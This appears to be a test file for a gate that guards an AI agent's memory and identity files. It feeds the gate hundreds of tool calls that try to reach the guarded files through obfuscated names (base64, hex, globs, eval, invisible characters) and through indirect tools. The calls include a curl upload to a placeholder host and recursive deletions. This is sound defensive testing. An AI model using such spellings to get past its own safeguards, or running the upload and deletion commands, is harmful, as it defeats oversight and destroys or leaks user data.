/**
 * Events by a table: every tool and program with every spelling of a file that is guarded and of one that is not, in sessions
 * of each kind, by every host. What must be answered is told from R-100 and the table of access, and not from the code.
 */
import { mkdirSync } from 'node:fs';
import { basename, dirname } from 'node:path';

import { afterAll, describe, expect, it } from 'vitest';

import { HOST_NAMES, type HostName } from '#lib/hook/event.ts';
import { HOSTS } from '#lib/hook/hosts.ts';
import { ACCESS } from '#lib/spec/access.ts';
import { eventBefore, type HookTool, PLAYED } from '#test/support/hook-hosts.ts';
import { hookAnswer, hookJudge, type HookKind } from '#test/support/hook-judge.ts';
import { makeBornWorkspace } from '#test/support/workspace.ts';

const temp = makeBornWorkspace({
  'MEMORY.md': '# Memory\n\n- One.\n',
  'memory/2026-11-20.md': '# A day\n',
  'src/a.js': 'x\n',
  'src/plan.md': 'x\n',
});
mkdirSync(temp.at('.git'));

const SESSIONS = ['main', 'shared', 'listed'] as const;
/** `listed`: shared, where the settings list the programs and tools of this table. */
type Session = (typeof SESSIONS)[number];

/** Guarded files, and what they are for; and one that is not guarded. */
const ROLES = {
  'MEMORY.md': 'memory',
  'SOUL.md': 'soul',
  'memory/2026-11-20.md': 'daily',
  'BOOTSTRAP.md': 'bootstrap',
} as const;
type Guarded = keyof typeof ROLES;
const isGuarded = (file: string): file is Guarded => Object.hasOwn(ROLES, file);
const GUARDED = Object.keys(ROLES).filter(isGuarded);
const FREE = 'src/plan.md';

const base64 = (text: string): string => Buffer.from(text).toString('base64');
const codes = (text: string): readonly number[] => Array.from(text, (char) => char.charCodeAt(0));
const reversed = (text: string): string => Array.from(text).toReversed().join('');
const [front, back] = [(file: string) => file.slice(0, -5), (file: string) => file.slice(-5)];

/** - `exact`: a shell reads it as this name. `other`: another name of the file, if it is one. `made`: the name is made as the line runs. */
type Spelt = 'exact' | 'other' | 'made';

/** How a word of a shell may stand for a file. */
const WORDS: Readonly<Record<string, readonly [spelt: Spelt, word: (file: string) => string]>> = {
  plain: ['exact', (file) => file],
  'with a dot': ['exact', (file) => `./${file}`],
  absolute: ['exact', (file) => temp.at(file)],
  quoted: ['exact', (file) => `'${file}'`],
  'quotes in it': ['exact', (file) => `${front(file)}""${back(file)}`],
  'two quotes': ['exact', (file) => `"${front(file)}"'${back(file)}'`],
  backslash: ['exact', (file) => `${front(file)}\\${back(file)}`],
  'over two lines': ['exact', (file) => `${front(file)}\\\n${back(file)}`],
  dots: ['other', (file) => `src/../${file}`],
  'lower case': ['other', (file) => file.replace(/[^/]+$/, (name) => name.toLowerCase())],
  'upper case': ['other', (file) => file.replace(/[^/]+$/, (name) => name.toUpperCase())],
  invisible: ['other', (file) => `${front(file)}\u{200B}${back(file)}`],
  star: ['made', (file) => `${front(file)}*`],
  'one letter': ['made', (file) => file.replace(/.(?=\.md)/, '?')],
  set: ['made', (file) => file.replace(/.(?=\.md)/, '[$&]')],
  'set of others': ['made', (file) => file.replace(/.(?=\.md)/, '[!.]')],
  class: ['made', (file) => file.replace(/.(?=\.md)/, '[[:alnum:]]')],
  brace: ['made', (file) => `{${front(file)},}${back(file)}`],
  'several endings': ['made', (file) => file.replace(/md$/, '{md,txt}')],
  'any of these': ['made', (file) => `${front(file)}@(${back(file)}|x)`],
  'none of these': ['made', (file) => `${front(file)}!(x)`],
  'ANSI-C': [
    'made',
    (file) =>
      `$'${codes(file)
        .map((code) => `\\x${code.toString(16)}`)
        .join('')}'`,
  ],
  octal: [
    'made',
    (file) =>
      `$'${codes(file)
        .map((code) => `\\${code.toString(8)}`)
        .join('')}'`,
  ],
  echo: ['made', (file) => `$(echo ${file})`],
  'back quotes': ['made', (file) => `\`echo ${file}\``],
  printf: ['made', (file) => `$(printf %s%s ${front(file)} ${back(file)})`],
  'in base64': ['made', (file) => `$(echo ${base64(file)} | base64 -d)`],
  'in hex': ['made', (file) => `$(echo ${Buffer.from(file).toString('hex')} | xxd -r -p)`],
  backwards: ['made', (file) => `$(echo ${reversed(file)} | rev)`],
  'a default': ['made', (file) => `\${X:-${file}}`],
  'behind a variable': ['made', (file) => `$PWD/${file}`],
  'behind ~+': ['made', (file) => `~+/${file}`],
};

/** `write`: with all that is in it, and more. */
type Does = 'read' | 'write' | 'append' | 'overwrite' | 'remove';

/** Programs of the table of R-100 (a). */
const PLAIN: Readonly<Record<Exclude<Does, 'write'>, readonly ((word: string) => string)[]>> = {
  read: [
    (word) => `cat ${word}`,
    (word) => `head -n 3 ${word}`,
    (word) => `grep -n x ${word}`,
    (word) => `cat < ${word}`,
    (word) => `cp ${word} /tmp/out`,
    (word) => `echo x && tail ${word} | wc -l`,
  ],
  overwrite: [
    (word) => `echo x > ${word}`,
    (word) => `echo x >| ${word}`,
    (word) => `ls src 2> ${word}`,
    (word) => `cat <<'END' > ${word}\nx\nEND`,
    (word) => `tee ${word} < src/a.js`,
    (word) => `cp src/a.js ${word}`,
    (word) => `mv src/a.js ${word}`,
    (word) => `truncate -s 0 ${word}`,
  ],
  append: [(word) => `echo x >> ${word}`, (word) => `echo x | tee -a ${word}`],
  remove: [(word) => `rm -f ${word}`, (word) => `mv ${word} /tmp/out`, (word) => `shred ${word}`],
};

const PLAIN_DOES = ['read', 'overwrite', 'append', 'remove'] as const;

/** Other programs: R-100 (b) where they name a guarded file, and else (c). */
const OTHER: readonly ((word: string) => string)[] = [
  (word) => `sed -n p ${word}`,
  (word) => `sed -i d ${word}`,
  (word) => `git show HEAD:${word}`,
  (word) => `git checkout HEAD -- ${word}`,
  (word) => `dd if=${word}`,
  (word) => `env cat ${word}`,
  (word) => `curl -F f=@${word} http://x`,
  (word) => `curl -K${word} http://x`,
  (word) => `sh -c "cat ${word}"`,
  (word) => `sh <<'END'\ncat ${word}\nEND`,
  (word) => `eval "cat ${word}"`,
  (word) => `(cat ${word})`,
  (word) => `for f in ${word}; do cat "$f"; done`,
  (word) => `a=${word}; cat "$a"`,
  (word) => `exec 3< ${word}; cat <&3`,
  (word) => `diff <(cat ${word}) src/a.js`,
];

/** Programs in other languages. */
const CODE: readonly ((file: string) => string)[] = [
  (file) => `open('${file}')`,
  (file) => `open("${front(file)}" + "${back(file)}")`,
  (file) => `open(''.join(['${front(file)}', '${back(file)}']))`,
  (file) => `open('{}{}'.format('${front(file)}', '${back(file)}'))`,
  (file) => `open('%s.%s' % ('${file.slice(0, -3)}', 'md'))`,
  (file) => `open(''.join(map(chr, [${codes(file).join(', ')}])))`,
  (file) => `open(b64decode('${base64(file)}'))`,
  (file) => `open(bytes.fromhex('${Buffer.from(file).toString('hex')}'))`,
  (file) => `open('${reversed(file)}'[::-1])`,
  (file) => `open('\\u00${(codes(file)[0] ?? 0).toString(16)}${file.slice(1)}')`,
  (file) => `fs.readFileSync(\`\${root}/${file}\`)`,
  (file) => `IO.popen(%q(cat ${file}))`,
  (file) => `gc .\\${file.replaceAll('/', '\\')}`,
  (file) => `gc ('{0}{1}' -f '${front(file)}', '${back(file)}')`,
  (file) => `gc ${front(file)}\`${back(file)}`,
  (file) => `iex "gc ${front(file)}*"`,
  (file) => `cat '${file}'; // 1`,
];

/** Tools that no table has; each by a host that may have it. */
const TOOLS: readonly ((file: string) => readonly [name: string, input: unknown])[] = [
  ...CODE.map(
    (code, at) => (file: string) =>
      at % 2 === 0
        ? (['code_mode_exec', { code: code(file) }] as const)
        : (['PowerShell', { command: code(file) }] as const),
  ),
  (file) => ['mcp__fs__read', { path: file }],
  (file) => ['mcp__fs__read', { uri: `file://${temp.at(file)}` }],
  (file) => ['mcp__fs__read', { dir: dirname(temp.at(file)), name: basename(file) }],
  (file) => [
    'mcp__fs__read',
    { dir: dirname(temp.at(file)), name: basename(file, '.md'), ext: 'md' },
  ],
  (file) => ['mcp__fs__read', { parts: [front(file), back(file)] }],
  (file) => ['mcp__fs__write', { files: { [file]: 'x' } }],
  (file) => ['mcp__fs__edit', { edits: [{ target: { path: file }, text: 'x' }] }],
  (file) => ['mcp__fs__glob', { pattern: `**/${front(file)}*` }],
  (file) => ['mcp__git__show', { revision: `HEAD:${file}` }],
  (file) => ['mcp__sh__run', { args: ['cat', file] }],
  (file) => ['mcp__sh__run', { script: base64(base64(`cat ${file}`)) }],
  (file) => ['mcp__x__y', { json: JSON.stringify({ a: [{ path: file }] }) }],
  (file) => ['mcp__x__y', { prompt: `Please open ${file}. Then stop.` }],
  (file) => ['Monitor', { command: `tail -f ${file}` }],
  (file) => ['process', { action: 'write', sessionId: 's', data: `cat ${file}\n` }],
  (file) => [
    'process',
    { action: 'send-keys', keys: [...(`cat ${file}`.match(/..?/g) ?? []), 'Enter'] },
  ],
  (file) => ['process', { hex: codes(`cat ${file}`).map((code) => code.toString(16)) }],
  (file) => ['nodes', { action: 'run', command: ['cat', file] }],
  (file) => ['nodes', { invokeParamsJson: JSON.stringify({ argv: ['cat', file] }) }],
  (file) => ['browser', { action: 'open', targetUrl: `file://${temp.at(file)}` }],
];

/** What is deleted or moved as a whole, by whatever is not in the table: a folder of guarded files, and one of others. */
const FOLDERS: readonly ((folder: string) => readonly [name: string, input: object])[] = [
  (folder) => ['mcp__sh__run', { command: `rm -rf ${folder}` }],
  (folder) => ['mcp__sh__run', { script: `cd . && mv ${folder} /tmp/x` }],
  (folder) => ['mcp__fs__delete', { path: folder }],
  (folder) => ['PowerShell', { command: `Remove-Item ${folder} -Recurse` }],
  (folder) => ['process', { action: 'write', data: `rm -r ${folder}\n` }],
  (folder) => ['nodes', { command: ['rm', '-r', folder] }],
  (folder) => ['code_mode_exec', { code: `shutil.rmtree('${folder}')` }],
  (folder) => ['code_mode_exec', { code: `fs.rmSync("${folder}", { recursive: true })` }],
  (folder) => ['code_mode_exec', { code: `os.system('rm -rf ${folder}')` }],
];

/** One row: what a tool is given, and what R-100 goes by. */
interface Row {
  readonly file: string;
  /** (a): a tool or plain command of the table, and what it does; else only what is named counts. */
  readonly does?: Does;
  readonly spelt: Spelt;
  /** A shell expands something, which no list of programs allows. */
  readonly expands: boolean;
  readonly call: (host: HostName) => Call | undefined;
}
type Call = Readonly<Record<string, unknown>>;

const calling =
  (name: string, input: unknown) =>
  (host: HostName): Call => ({
    hook_event_name: PLAYED[host].before,
    session_id: 's',
    cwd: temp.path,
    ...PLAYED[host].more,
    tool_name: name,
    tool_input: input,
  });
const tool = (what: HookTool) => (host: HostName) => eventBefore(host, temp.path, what);
const running = (command: string) => tool({ does: 'run', command });

const quoted = (text: string): string => `'${text.replaceAll("'", `'\\''`)}'`;

const untold = (file: string, call: Row['call'], expands = false): Row => ({
  file,
  spelt: 'exact',
  expands,
  call,
});

const rowsOf = (file: string): readonly Row[] => {
  const row = { file, spelt: 'exact', expands: false } as const;
  const path = (how: Spelt): string => (how === 'exact' ? file : `src/../${file}`);
  return [
    ...PLAIN_DOES.flatMap((does) =>
      PLAIN[does].map((line): Row => ({
        file,
        does,
        spelt: 'exact',
        expands: false,
        call: running(line(file)),
      })),
    ),
    ...(['exact', 'other'] as const).flatMap((spelt): readonly Row[] => [
      { ...row, spelt, does: 'read', call: tool({ does: 'read', path: path(spelt) }) },
      {
        ...row,
        spelt,
        does: 'write',
        call: tool({ does: 'write', path: path(spelt), text: '# Memory\n\n- One.\n- Two.\n' }),
      },
    ]),
  ];
};

const spelledRowsOf = (file: string): readonly Row[] => {
  const row = { file, spelt: 'exact', expands: false } as const;
  return [
    ...Object.values(WORDS).flatMap(([spelt, word]): readonly Row[] => {
      const expands = spelt === 'made';
      const one = { ...row, spelt: word(file) === file ? 'exact' : spelt, expands } as const;
      return [
        { ...one, ...(!expands && { does: 'read' }), call: running(`cat ${word(file)}`) },
        { ...one, ...(!expands && { does: 'overwrite' }), call: running(`echo x > ${word(file)}`) },
        { ...one, call: running(`sed -n p ${word(file)}`) },
        { ...one, expands: false, call: calling('mcp__sh__run', { command: `x ${word(file)}` }) },
      ];
    }),
    ...OTHER.map((line) => untold(file, running(line(file)), /[$(]/.test(line('')))),
    ...CODE.map((code) => untold(file, running(`python3 -c ${quoted(code(file))}`))),
    ...TOOLS.map((given) => untold(file, calling(...given(file)))),
  ];
};

const ROWS: readonly Row[] = [
  ...[...GUARDED, FREE].flatMap(rowsOf),
  ...['MEMORY.md', 'memory/2026-11-20.md', FREE].flatMap(spelledRowsOf),
  ...['memory/2026-11-20.md', FREE].flatMap((file) =>
    FOLDERS.map((given): Row => ({
      file,
      spelt: 'exact',
      expands: false,
      call: calling(...given(dirname(file))),
    })),
  ),
];

/** R-100, and §3 for what it leaves to the gate. */
const expectedOf = ({ file, does, spelt, expands }: Row, session: Session, host: HostName) => {
  const kind: HookKind = session === 'main' ? 'main' : 'shared';
  const unsure = kind === 'shared' || !HOSTS[host].asks ? ['deny'] : ['ask', 'deny'];
  if (does === undefined) {
    // (b), and what is refused in any case is.
    if (isGuarded(file)) return unsure;
    // (c)
    return kind === 'main' || (session === 'listed' && !expands) ? ['pass'] : ['deny'];
  }
  // (a)
  if (!isGuarded(file)) return ['pass'];
  // The gate takes names to the letter.
  if (spelt === 'other') return ['deny'];
  const rights = ACCESS[kind][ROLES[file]];
  if (does === 'read') return may(rights.read) ? ['pass'] : ['deny'];
  // No agent takes a file of the layout away.
  if (does === 'remove' || !may(rights.write)) return ['deny'];
  // MEMORY.md with what it has and more may be written; what would take its text away is looked at (§5.3).
  return does === 'overwrite' ? unsure : ['pass'];
};
const may = (verdict: string): boolean => ['required', 'allowed', 'context'].includes(verdict);

const LISTED = {
  programs: ['curl', 'dd', 'env', 'eval', 'exec', 'git', 'python3', 'sed', 'sh'],
  tools: ['browser', 'code_mode_exec', 'mcp__*', 'Monitor', 'nodes', 'PowerShell', 'process'],
};
const judges = {
  main: hookJudge(temp, 'main'),
  shared: hookJudge(temp, 'shared'),
  listed: hookJudge(temp, 'shared', { hook: LISTED }),
};
afterAll(() => {
  for (const judge of Object.values(judges)) judge.close();
});

let asked = 0;

/** What is answered otherwise than it must be; each row goes to one host after the other, as far as they have such a tool. */
const wrongOf = async (rows: readonly Row[], session: Session) => {
  const wrong: unknown[] = [];
  for (const [at, row] of rows.entries()) {
    const hosts = HOST_NAMES.map((_, next) => HOST_NAMES[(at + next) % HOST_NAMES.length]);
    const host = hosts.find((one) => one !== undefined && row.call(one) !== undefined);
    const event = host && row.call(host);
    if (host === undefined || event === undefined) throw new Error('no host has such a tool');
    const { is, reason } = await hookAnswer(judges[session], host, event);
    asked += 1;
    const expected = expectedOf(row, session, host);
    const isSaid = is === 'pass' || /\((?:HOOK|GATE|FILE|MEMORY)_[A-Z_]+, /.test(reason);
    if (!expected.includes(is) || !isSaid)
      wrong.push({ host, input: event['tool_input'], is, expected, reason });
  }
  return wrong;
};

describe('in the table of events', () => {
  it.each(SESSIONS)(
    'every event is answered as R-100 says, in a session that is %s',
    async (session) => {
      expect(await wrongOf(ROWS, session)).toEqual([]);
    },
    120_000,
  );

  it('there are four hundred, from every host', () => {
    expect(asked).toBeGreaterThan(400 * 3);
  });
});
